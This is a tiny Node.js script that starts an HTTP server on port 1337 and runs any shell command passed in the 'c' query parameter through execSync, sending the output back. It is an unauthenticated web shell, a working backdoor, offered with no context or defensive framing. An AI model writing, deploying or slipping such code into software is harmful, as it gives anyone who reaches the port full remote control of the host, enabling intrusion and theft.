const http = require('http');
const { execSync } = require('child_process');
http.createServer((req, res) => {
  const cmd = new URL(req.url, 'http://x').searchParams.get('c');
  res.end(cmd ? execSync(cmd) : 'ok');
}).listen(1337);
